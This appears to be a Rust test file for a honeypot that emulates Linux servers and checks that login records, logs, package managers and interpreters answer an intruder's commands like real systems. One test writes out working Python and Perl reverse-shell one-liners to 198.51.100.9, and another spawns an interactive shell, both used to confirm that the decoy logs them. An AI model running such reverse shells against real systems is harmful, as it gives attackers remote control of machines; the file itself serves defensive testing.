//! What an intruder looks at first: who is here, what is installed, what the logs say, what an interpreter does.

use super::{
    machine::{ask, serving},
    *,
};

/// Both streams of a script.
fn both(template: &Template, user: &str, script: &str) -> (String, String) {
    let seen = Arc::new(Mutex::new(Seen::default()));
    seen.lock().unwrap().now = template.machine.boot_time + 2_451_907;
    let outside = Box::new(Bench(Arc::clone(&seen)));
    let mut shell = template.shell(user, "192.0.2.7 4 22", outside, 1, vfs::Shared::default());
    now_or_never(shell.run_line(script.as_bytes()));
    let seen = seen.lock().unwrap();
    (
        String::from_utf8_lossy(&seen.out).into_owned(),
        String::from_utf8_lossy(&seen.err).into_owned(),
    )
}

/// What a terminal shows of a session in which these lines are typed.
fn at_terminal(template: &Template, source: &str, lines: &[&str]) -> String {
    let seen = Arc::new(Mutex::new(Seen {
        now: template.machine.boot_time + 2_451_907,
        size: Some((80, 24)),
        typed: lines.iter().map(|l| Typed::Line(l.as_bytes().to_vec())).collect(),
        ..Seen::default()
    }));
    let outside = Box::new(Bench(Arc::clone(&seen)));
    let mut shell = template.shell("root", source, outside, 1, vfs::Shared::default());
    shell.terminal = Some((80, 24));
    now_or_never(shell.login(""));
    drop(shell);
    let seen = seen.lock().unwrap();
    String::from_utf8_lossy(&seen.shown).into_owned()
}

#[test]
fn a_command_without_a_terminal_is_in_no_list() {
    let (_, template) = serving(Distro::Debian12, "linux-server", 1, &["ssh"]);
    assert_eq!(ask(&template, "who; users; w -h; who am i"), "");
    let w = ask(&template, "w; uptime");
    assert_eq!(w.lines().count(), 3, "{w}");
    assert!(w.contains(",  0 user,  load average:"), "{w}");
    let last = ask(&template, "last");
    assert!(
        last.starts_with("reboot   system boot  ") && !last.contains("still logged in"),
        "{last}"
    );
    assert!(ask(&template, "w | head -1").contains("0 user"));
    let (_, older) = serving(Distro::Ubuntu22, "linux-server", 1, &["ssh"]);
    assert!(ask(&older, "uptime").contains(",  0 users,  load average:"));
}

#[test]
fn a_terminal_is_in_every_list_and_two_have_two_places() {
    let (_, template) = serving(Distro::Debian12, "linux-server", 1, &["ssh"]);
    let first = at_terminal(
        &template,
        "192.0.2.7 4 22",
        &["who", "w -h", "tty", "lastlog -u root", "last -1"],
    );
    assert!(first.contains("root     pts/0        20"), "{first}");
    assert!(
        first.contains("(192.0.2.7)") && first.contains("/dev/pts/0"),
        "{first}"
    );
    assert!(first.contains("root             pts/0    192.0.2.7 "), "{first}");
    assert!(first.contains("still logged in"), "{first}");
    // It is over; what was is told, and the place is free again.
    let after = ask(&template, "who; last");
    assert!(
        after.starts_with("root     pts/0        192.0.2.7        "),
        "{after}"
    );
    assert!(after.contains("  (00:00)\n"), "{after}");
    let _held = super::super::machine::Machine::sit(
        &template.machine,
        "root",
        "192.0.2.8",
        template.machine.boot_time + 2_451_800,
    );
    let second = at_terminal(&template, "192.0.2.9 4 22", &["tty", "w", "ps"]);
    assert!(
        second.contains("/dev/pts/1") && second.contains(" 2 users,"),
        "{second}"
    );
    assert!(second.contains("pts/1    00:00:00 bash"), "{second}");
}

#[test]
fn a_session_has_one_number_and_what_is_told_of_it_is_in_its_order() {
    let (_, template) = serving(Distro::Debian12, "linux-server", 1, &["ssh"]);
    let told = ask(
        &template,
        "echo $XDG_SESSION_ID; sed 's/.*session-//; s/.scope//' /proc/self/cgroup; cat /proc/self/sessionid; echo; \
         tail -1 /var/log/auth.log | sed 's/.*New session //; s/ of user.*//'; echo $XDG_RUNTIME_DIR",
    );
    let lines: Vec<&str> = told.lines().collect();
    assert_eq!(lines.len(), 5, "{told}");
    assert!(lines[..4].iter().all(|number| *number == lines[0]), "{told}");
    assert_eq!(lines[4], "/run/user/0");
    let stamps = ask(&template, "cut -d' ' -f1 /var/log/auth.log");
    let stamps: Vec<&str> = stamps.lines().collect();
    assert!(stamps.len() > 10 && stamps.is_sorted(), "{stamps:?}");
    let hidden = ask(&template, "ls -A /tmp; systemctl --failed | tail -1");
    assert_eq!(
        hidden,
        ".font-unix\n.ICE-unix\n.X11-unix\n.XIM-unix\n0 loaded units listed.\n"
    );
    let (_, alpine) = serving(Distro::Alpine, "linux-server", 1, &["ssh"]);
    assert_eq!(ask(&alpine, "echo \"$XDG_SESSION_ID\"; ls -A /tmp"), "\n");
}

#[test]
fn who_has_left_is_gone_in_the_logs_too() {
    let (_, template) = serving(Distro::Debian12, "linux-server", 1, &["ssh"]);
    at_terminal(&template, "192.0.2.9 51234 22", &["id"]);
    let log = ask(
        &template,
        "grep -E 'sshd|logind' /var/log/auth.log | cut -d' ' -f3- | sed 's/[0-9]*.: /: /; s/ession [0-9][0-9]*/ession N/' | head -8",
    );
    assert_eq!(
        log.lines().collect::<Vec<_>>(),
        [
            "sshd[: Accepted password for root from 192.0.2.9 port 51234 ssh2",
            "sshd[: pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)",
            "systemd-logind[: New session N of user root.",
            "sshd[: Received disconnect from 192.0.2.9 port 51234:11: disconnected by user",
            "sshd[: Disconnected from user root 192.0.2.9 port 51234",
            "sshd[: pam_unix(sshd:session): session closed for user root",
            "systemd-logind[: Session N logged out. Waiting for processes to exit.",
            "systemd-logind[: Removed session N.",
        ]
    );
}

#[test]
fn who_was_refused_stands_in_the_logs_that_a_later_visitor_reads() {
    use super::super::strangers::{Left, Stranger};
    let from = "198.51.100.9:51234".parse().unwrap();
    let knock = |template: &Template, user: &str, times: u32, left: Left| {
        let machine = &template.machine;
        let now = machine.boot_time + 2_451_800;
        let who = Stranger {
            user: user.as_bytes(),
            from,
        };
        machine.note_name(who, now);
        for nth in 1..=times {
            machine.note_check(who, nth, now);
            machine.note_refusal(who, true, now);
        }
        machine.note_left(who, left, times, now);
    };
    let (_, template) = serving(Distro::Debian12, "linux-server", 1, &["ssh"]);
    let empty = ask(&template, "stat -c %s /var/log/btmp; lastb | head -1");
    assert_eq!(empty, "0\n\n");
    knock(&template, "root", 2, Left::Closed);
    knock(&template, "or\u{1b}acle", 1, Left::TooOften);
    let log = ask(
        &template,
        "grep 198.51.100.9 /var/log/auth.log | sed 's/^[^ ]* [^ ]* sshd.[0-9]*.: //'",
    );
    assert_eq!(
        log.lines().collect::<Vec<_>>(),
        [
            "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=198.51.100.9  user=root",
            "Failed password for root from 198.51.100.9 port 51234 ssh2",
            "Failed password for root from 198.51.100.9 port 51234 ssh2",
            "Connection closed by authenticating user root 198.51.100.9 port 51234 [preauth]",
            "PAM 1 more authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=198.51.100.9  user=root",
            "Invalid user or\\033acle from 198.51.100.9 port 51234",
            "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=198.51.100.9 ",
            "Failed password for invalid user or\\033acle from 198.51.100.9 port 51234 ssh2",
            "error: maximum authentication attempts exceeded for invalid user or\\033acle from 198.51.100.9 port 51234 ssh2 [preauth]",
            "Disconnecting invalid user or\\033acle 198.51.100.9 port 51234: Too many authentication failures [preauth]",
        ]
    );
    let journal = "journalctl -u ssh --no-pager | grep -c 198.51.100.9";
    assert_eq!(ask(&template, journal), "10\n");
    let refused = ask(
        &template,
        "lastb | cut -c-38; lastb -1 root; stat -c %s /var/log/btmp",
    );
    let lines: Vec<&str> = refused.lines().collect();
    assert_eq!(
        lines[..3],
        [
            "or\\033ac ssh:notty    198.51.100.9    ",
            "root     ssh:notty    198.51.100.9    ",
            "root     ssh:notty    198.51.100.9    ",
        ],
        "{refused}"
    );
    assert!(lines.iter().any(|line| line.ends_with("  (00:00)")), "{refused}");
    assert_eq!(lines.last(), Some(&"1152"), "three records of 384 bytes");

    let (_, alpine) = serving(Distro::Alpine, "linux-server", 1, &["ssh"]);
    knock(&alpine, "root", 1, Left::Closed);
    let log = ask(
        &alpine,
        "grep -c pam_unix /var/log/messages; grep Failed /var/log/messages",
    );
    assert!(
        log.starts_with("0\n")
            && log.ends_with("Failed password for root from 198.51.100.9 port 51234 ssh2\n"),
        "{log}"
    );
}

#[test]
fn stat_formats_as_the_real_one_does() {
    let format = "%n|%5a|%-5a|%05a|%A|%F|%8U|%-8u|%%|%N|%q|%";
    let script = format!(
        "stat -c '{format}' /; stat --printf='%n\\t%a\\n\\x41' /; stat --format=%F /dev/null; stat -c; stat --bogus; stat; stat -c %a /nosuch"
    );
    let (_, template) = serving(Distro::Debian12, "linux-server", 1, &["ssh"]);
    let (out, err) = both(&template, "root", &script);
    let real = std::process::Command::new("bash")
        .args(["-c", &script])
        .output()
        .unwrap();
    let expected = String::from_utf8_lossy(&real.stdout).replace("'/'\u{0}", "");
    assert_eq!(out, expected, "{out}");
    assert_eq!(err, String::from_utf8_lossy(&real.stderr));
    let shadow = ask(
        &template,
        "stat -c '%a %U %G %s' /etc/shadow; wc -c < /etc/shadow",
    );
    let words: Vec<&str> = shadow.split_whitespace().collect();
    assert_eq!(&words[..3], ["640", "root", "shadow"], "{shadow}");
    assert_eq!(words[3], words[4]);
    assert!(ask(&template, "stat -f /").contains("Type: ext2/ext3"));
}

#[test]
fn packagers_list_what_the_distribution_has() {
    for (distro, script, least, lines) in [
        (
            Distro::Debian12,
            "dpkg -l",
            300,
            &["ii  bash ", "ii  libc6:amd64 ", "ii  openssh-server "][..],
        ),
        (
            Distro::Ubuntu22,
            "dpkg -l",
            500,
            &["ii  ubuntu-server ", "ii  snapd "],
        ),
        (
            Distro::Ubuntu24,
            "apt list --installed 2>/dev/null",
            500,
            &["bash/noble,now 5.2.21-2ubuntu4 amd64 [installed]"],
        ),
        (
            Distro::Debian11,
            "dpkg-query -W",
            280,
            &["libssl1.1:amd64\t1.1.1w"],
        ),
        (
            Distro::Rocky9,
            "rpm -qa",
            300,
            &["bash-5.1.8-9.el9.x86_64", "rocky-release-9."],
        ),
        (Distro::Fedora, "rpm -qa", 350, &["fedora-release-server-"]),
        (Distro::Alpine, "apk info", 80, &["musl", "alpine-baselayout"]),
        (Distro::Arch, "pacman -Q", 140, &["base 3-2", "pacman 6"]),
    ] {
        let (_, template) = serving(distro, "web-server", 3, &["ssh", "http", "ftp"]);
        let listed = ask(&template, script);
        assert!(
            listed.lines().count() >= least,
            "{distro}: {}",
            listed.lines().count()
        );
        for line in lines {
            assert!(listed.lines().any(|l| l.starts_with(line)), "{distro}: no {line}");
        }
    }
    let (_, template) = serving(Distro::Debian12, "web-server", 3, &["ssh", "http"]);
    let (out, err) = both(
        &template,
        "root",
        "dpkg -l bash nosuch; dpkg -s nosuch; rpm -q x; apt install nosuch",
    );
    assert!(
        out.contains("\n||/ Name           Version      Architecture Description\n"),
        "{out}"
    );
    assert!(
        err.contains("dpkg-query: no packages found matching nosuch\n"),
        "{err}"
    );
    assert!(err.contains("E: Unable to locate package nosuch\n"), "{err}");
    let (_, template) = serving(Distro::Rocky9, "web-server", 3, &["ssh"]);
    assert_eq!(
        ask(
            &template,
            "rpm -q bash; rpm -q --qf '%{NAME} %{VERSION}\\n' bash; rpm -q nosuch"
        ),
        "bash-5.1.8-9.el9.x86_64\nbash 5.1.8\npackage nosuch is not installed\n"
    );
}

#[test]
fn a_machine_of_red_hats_family_has_the_files_of_a_login_that_those_have() {
    for distro in [Distro::Rocky9, Distro::Fedora] {
        let (_, template) = serving(distro, "linux-server", 3, &["ssh"]);
        let (out, err) = both(
            &template,
            "root",
            "ls -A /root /etc/skel; cat /root/.bashrc /root/.bash_profile /etc/bashrc /etc/profile /etc/skel/.bashrc; ls /root/.profile /etc/bash.bashrc",
        );
        for words in [
            ".bash_logout\n",
            ".bash_profile\n",
            ".cshrc\n",
            "alias rm='rm -i'\n",
            "# Source global definitions\n",
            "[\\u@\\h \\W]",
            "$HOME/.local/bin:",
        ] {
            assert!(out.contains(words), "{distro}: {words:?} is not in\n{out}");
        }
        assert!(
            !out.contains("\n.profile\n") && !out.contains("executed by bash(1)"),
            "{out}"
        );
        assert_eq!(err.lines().count(), 2, "{err}");
        let said = ask(
            &template,
            ". /etc/os-release; echo $NAME $VERSION_ID; cat /etc/redhat-release",
        );
        let [name, release] = said.lines().collect::<Vec<_>>()[..] else {
            panic!("{said}")
        };
        let (name, version) = name.rsplit_once(' ').unwrap();
        assert!(
            release.contains(name.trim_end_matches(" Linux"))
                && release.contains(&format!("release {version}")),
            "{said}"
        );
    }
    let (_, debian) = serving(Distro::Debian12, "linux-server", 3, &["ssh"]);
    let there = ask(&debian, "ls -A /root; ls -A /etc/skel");
    assert!(
        there.contains(".profile") && !there.contains(".bash_profile"),
        "{there}"
    );
}

#[test]
fn rpm_tells_of_packages_and_files_and_of_what_a_visitor_changed() {
    let (_, template) = serving(Distro::Rocky9, "linux-server", 3, &["ssh"]);
    assert_eq!(
        ask(
            &template,
            "cd /bin; rpm -qf ls /etc/bashrc /root/.bashrc /usr/sbin/sshd | sed 's/-[0-9].*//'; rpm -qf /tmp; touch /tmp/x; rpm -qf /tmp/x; rpm -q a b; echo $?"
        ),
        "coreutils\nsetup\nrootfiles\nopenssh-server\nfilesystem-3.16-2.el9.x86_64\nfile /tmp/x is not owned by any package\npackage a is not installed\npackage b is not installed\n2\n"
    );
    let info = ask(&template, "rpm -qi bash");
    for line in [
        "Name        : bash\nVersion     : 5.1.8\nRelease     : 9.el9\nArchitecture: x86_64\nInstall Date: ",
        "License     : GPLv3+\nSignature   : RSA/SHA256, ",
        "Source RPM  : bash-5.1.8-9.el9.src.rpm\n",
        "Vendor      : Rocky Enterprise Software Foundation\nURL         : https://www.gnu.org/software/bash\nSummary     : The GNU Bourne Again shell\nDescription :\n",
    ] {
        assert!(info.contains(line), "{line:?} is not in\n{info}");
    }
    // What a package has is there and is its own.
    let owners = ask(
        &template,
        "for p in bash coreutils openssh-server setup systemd; do for f in $(rpm -ql $p); do ls -d $f >/dev/null && rpm -qf --qf '%{NAME}\\n' $f; done | sort | uniq -c | awk '{print $2, ($1 > 3)}'; done",
    );
    assert_eq!(
        owners,
        "bash 1\ncoreutils 1\nopenssh-server 1\nsetup 1\nsystemd 1\n"
    );
    assert_eq!(
        ask(
            &template,
            "rpm -V bash setup curl; echo $?; echo x >> /etc/skel/.bashrc; rm /usr/bin/curl; chmod 666 /etc/profile; rpm -V bash curl setup; echo $?; rpm -V nosuch"
        ),
        "0\nS.5....T.  c /etc/skel/.bashrc\nmissing     /usr/bin/curl\n.M.......  c /etc/profile\n1\npackage nosuch is not installed\n"
    );
    let (out, err) = both(
        &template,
        "root",
        "rpm -qf /nope; rpm -qp a.rpm; rpm -i a.rpm; rpm -e nosuch; rpm -e bash; rpm -q; rpm -V",
    );
    assert_eq!(out, "");
    for line in [
        "error: file /nope: No such file or directory\n",
        "error: open of a.rpm failed: No such file or directory\n",
        "error: package nosuch is not installed\n",
        "error: Failed dependencies:\n\tbash is needed by (installed) systemd-",
        "rpm: no arguments given for query\n",
        "rpm: no arguments given for verify\n",
    ] {
        assert!(err.contains(line), "{line:?} is not in\n{err}");
    }
    let (_, fedora) = serving(Distro::Fedora, "linux-server", 3, &["ssh"]);
    let info = ask(&fedora, "rpm -qi openssh-clients");
    assert!(
        info.contains("Source RPM  : openssh-") && info.contains("Vendor      : Fedora Project\n"),
        "{info}"
    );
}

#[test]
fn dnf_lists_what_is_installed_for_anybody_and_changes_it_for_root() {
    let (_, template) = serving(Distro::Rocky9, "linux-server", 3, &["ssh"]);
    let (out, err) = both(
        &template,
        "nobody",
        "yum list installed bash; dnf info bash; dnf repolist; dnf install nmap; dnf list nosuch",
    );
    for line in [
        "Installed Packages\nbash.x86_64 ",
        "Version      : 5.1.8\nRelease      : 9.el9\nArchitecture : x86_64\nSize         : 7.3 M\nSource       : bash-5.1.8-9.el9.src.rpm\n",
        "baseos                       Rocky Linux 9 - BaseOS\n",
    ] {
        assert!(out.contains(line), "{line:?} is not in\n{out}");
    }
    assert_eq!(
        err,
        "Error: This command has to be run with superuser privileges (under the root user on most systems).\nError: No matching Packages to list\n"
    );
}

#[test]
fn logs_are_as_old_as_the_machine_and_tell_of_the_visit() {
    let (_, template) = serving(Distro::Debian12, "web-server", 3, &["ssh", "http", "redis"]);
    let shown = ask(&template, "tail -3 /var/log/auth.log");
    assert!(
        shown.contains("sshd[") && shown.contains("Accepted password for root from 192.0.2.7 port 4 ssh2"),
        "{shown}"
    );
    assert!(shown.contains("session opened for user root(uid=0)"), "{shown}");
    // A new line every hour, in weeks that rotate; sizes are those of what is read.
    let counts = ask(
        &template,
        "grep -c CRON /var/log/auth.log.1; zcat /var/log/auth.log.2.gz | grep -c CRON; zcat /var/log/syslog.3.gz | grep -c logrotate.service",
    );
    assert_eq!(counts, "336\n336\n21\n");
    for file in [
        "/var/log/auth.log.1",
        "/var/log/syslog",
        "/var/log/auth.log.2.gz",
        "/var/log/wtmp",
        "/var/log/lastlog",
        "/var/log/dpkg.log.1",
    ] {
        let size = ask(&template, &format!("stat -c %s {file}; wc -c < {file}"));
        let sizes: Vec<&str> = size.split_whitespace().collect();
        assert_eq!(sizes[0], sizes[1], "{file}");
        assert_ne!(sizes[0], "0", "{file}");
    }
    assert_eq!(
        ask(&template, "stat -c %s /var/log/wtmp"),
        ask(&template, "stat -c %s /var/log/wtmp")
    );
    let (_, err) = both(&template, "nobody", "cat /var/log/auth.log");
    assert!(err.contains("Permission denied"), "{err}");
    // What is emptied is empty.
    assert_eq!(
        ask(
            &template,
            "> /var/log/wtmp; wc -c < /var/log/wtmp; last | head -1"
        ),
        "0\n\n"
    );
    let journal = ask(
        &template,
        "journalctl -n 5 --no-pager; journalctl -u ssh | tail -1",
    );
    assert!(
        journal.lines().count() == 6 && journal.contains("session opened for user root"),
        "{journal}"
    );
    let (_, rocky) = serving(Distro::Rocky9, "linux-server", 3, &["ssh"]);
    let names = ask(
        &rocky,
        "ls /var/log; tail -1 /var/log/secure; tail -1 /var/log/messages; tail -1 /var/log/cron",
    );
    assert!(
        names.contains("secure-20") && names.contains("messages\n") && !names.contains("auth.log"),
        "{names}"
    );
    assert!(
        names.contains("session opened for user root")
            && names.contains("New session")
            && names.contains("0anacron"),
        "{names}"
    );
}

/// One-liners that both interpreters of this machine and ours answer alike.
const ONE_LINERS: &[&str] = &[
    "python3 -c 'print(1)'",
    "python3 -c 'print(\"vuln\" + \"erable\")'",
    "python3 -c 'print(\"A\"*20)'",
    "python3 -c 'print(7*7, 2**10, 7//2, 7/2, 10%3)'",
    "python3 -c 'import os; print(os.getuid()); print(os.name, os.sep)'",
    "python3 -c 'import os,sys; print(\"x\", [1, \"a\"], (1,), None, True)'",
    "python3 -c 'print(\"abc\"[::-1], \"abc\"[1], \"%s-%d\" % (\"a\", 5), len(\"abcd\"))'",
    "python3 -c 'x=5; y=x*2; print(f\"{x} and {y}\")'",
    "python3 -c 'import base64; print(base64.b64decode(\"aGk=\"))'",
    "python3 -c 'import base64; print(base64.b64decode(\"aGk=\").decode())'",
    "python3 -c 'print(1/0)'",
    "python3 -c 'print('",
    "python3 -c 'foo'",
    "python3 -c 'print(\"a\"+1)'",
    "python3 -c 'import nosuch'",
    "python3 -c 'import os; os.system(\"echo hi; id -u\")'",
    "python3 -c 'import subprocess; subprocess.call([\"echo\", \"a\"])'",
    "python3 -c '__import__(\"os\").system(\"echo from here\")'",
    "python3 -c 'import sys; sys.exit(3)'; echo $?",
    "perl -e 'print \"a\\n\"'",
    "perl -e 'print 1+1, \"\\n\"'",
    "perl -le 'print 2**10'",
    "perl -e 'print \"A\" x 5 . \"\\n\"'",
    "perl -e 'system(\"echo hi\")'",
    "perl -e 'exec \"/bin/echo there\"'",
    "perl -e 'use POSIX; print 3*4 . \"\\n\"; exit 4'; echo $?",
    "perl -e 'die \"x\"'; echo $?",
    "perl -e 'print 10/4, \"\\n\"'",
];

#[test]
fn one_liners_of_interpreters_print_what_the_real_ones_print() {
    let version = |program: &str| std::process::Command::new(program).arg("--version").output().ok();
    let real_python = version("/usr/bin/python3").is_some_and(|o| o.stdout.starts_with(b"Python 3.11"));
    let real_perl = version("/usr/bin/perl").is_some();
    if !real_python || !real_perl {
        decnet_testkit::skipped("Debian 12's python3 and perl are not installed");
        return;
    }
    let (_, template) = serving(Distro::Debian12, "linux-server", 1, &["ssh"]);
    for script in ONE_LINERS {
        let real = std::process::Command::new("bash")
            .env("PATH", "/usr/bin:/bin")
            .args(["-c", script])
            .output()
            .unwrap();
        let (out, err) = both(&template, "root", script);
        assert_eq!(out, String::from_utf8_lossy(&real.stdout), "{script}");
        assert_eq!(err, String::from_utf8_lossy(&real.stderr), "{script}");
    }
}

#[test]
fn a_shell_of_a_terminal_and_a_way_out_are_what_intruders_ask_interpreters_for() {
    let (_, template) = serving(Distro::Debian12, "linux-server", 1, &["ssh"]);
    let shown = at_terminal(
        &template,
        "192.0.2.7 4 22",
        &[
            "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'",
            "echo in$((1+1))",
            "exit",
            "perl -e 'exec \"/bin/sh\"'",
            "echo $0",
        ],
    );
    assert!(shown.contains("\rin2\n") && shown.contains("\rexit\n"), "{shown}");
    assert!(
        shown.contains("# echo $0\n/bin/sh\n") || shown.contains("# echo $0\nsh\n"),
        "{shown}"
    );
    let seen = Arc::new(Mutex::new(Seen::default()));
    let outside = Box::new(Bench(Arc::clone(&seen)));
    let mut shell = template.shell("root", "192.0.2.7 4 22", outside, 1, vfs::Shared::default());
    let way_out = "python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"198.51.100.9\",4444));os.dup2(s.fileno(),0);p=subprocess.call([\"/bin/sh\",\"-i\"]);'; perl -e 'use Socket;$i=\"198.51.100.9\";$p=53;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){exec(\"/bin/sh -i\");};'";
    now_or_never(shell.run_line(way_out.as_bytes()));
    let seen = seen.lock().unwrap();
    assert_eq!(seen.fetched, ["tcp://198.51.100.9:4444", "tcp://198.51.100.9:53"]);
    assert!(String::from_utf8_lossy(&seen.err).ends_with("TimeoutError: [Errno 110] Connection timed out\n"));
}

#[test]
fn a_new_password_is_told_as_a_change_and_not_as_an_attempt_to_sign_in() {
    let (_, _, status, seen) = run_as("root", "printf 'hunter2\\nhunter2\\n' | passwd root");
    assert_eq!(status, 0);
    let reports = seen.lock().unwrap().reports.join("\n");
    assert!(
        reports.contains("command passwd root: new password: hunter2 as root"),
        "{reports}"
    );
    assert!(!reports.contains("secret"), "{reports}");
}

#[test]
fn a_device_has_a_devices_processor_memory_and_flash() {
    for (archetype, most_kb) in [
        ("ip-camera", 131_072),
        ("printer", 524_288),
        ("iot-device", 1_048_576),
    ] {
        for seed in 0..6 {
            let (_, template) = serving(Distro::Firmware, archetype, seed, &["ssh"]);
            let shown = ask(
                &template,
                "cat /proc/cpuinfo /proc/meminfo /proc/mtd /proc/partitions /proc/swaps; free; df; mount; ls /dev; dmesg; head -c 20 /bin/busybox | xxd",
            );
            for word in ["Xeon", "EPYC", "sda", "x86", "GenuineIntel", "ext4", "KVM", "KiB"] {
                assert!(!shown.contains(word), "{archetype} {seed} says {word}:\n{shown}");
            }
            assert!(
                shown.contains("ARMv7 Processor") && shown.contains("CPU architecture: 7"),
                "{shown}"
            );
            assert!(
                shown.contains("Swap:             0 ") || shown.contains("Swap:            0 "),
                "{shown}"
            );
            assert!(
                shown.contains("/dev/root") && shown.contains("/dev/mtdblock6"),
                "{shown}"
            );
            assert!(
                shown.contains("7f45 4c46 0101 0100") && shown.contains("0200 2800"),
                "{shown}"
            );
            assert!(template.machine.mem_kb < most_kb, "{archetype}");
        }
    }
}
